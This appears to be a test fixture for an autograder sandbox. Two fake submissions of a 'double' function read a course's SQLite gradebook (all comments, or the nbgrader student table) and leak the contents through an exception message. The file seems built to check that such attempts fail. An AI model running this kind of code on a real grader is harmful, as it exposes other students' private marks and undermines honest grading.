# %% [markdown]
# # Open the gradebook
#
# It is a SQLite file in the course's folder; who can read it reads everybody's marks and comments.
#
# * aim: read
# * stopped by: the package masked; the course, graders and home never bound
# * here: double error, mean failed
# * not for: otter

# %% answer="double"
import sqlite3


def double(x):
    found = []
    for path in ("gradebook.db", "../gradebook.db", "../../gradebook.db"):
        try:
            found += sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select text from comment").fetchall()
        except sqlite3.Error:
            continue
    raise RuntimeError(str(found))


# %% answer="double" of="nbgrader"
import sqlite3


def double(x):
    found = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True).execute("select * from student").fetchall()
    raise RuntimeError(str(found))
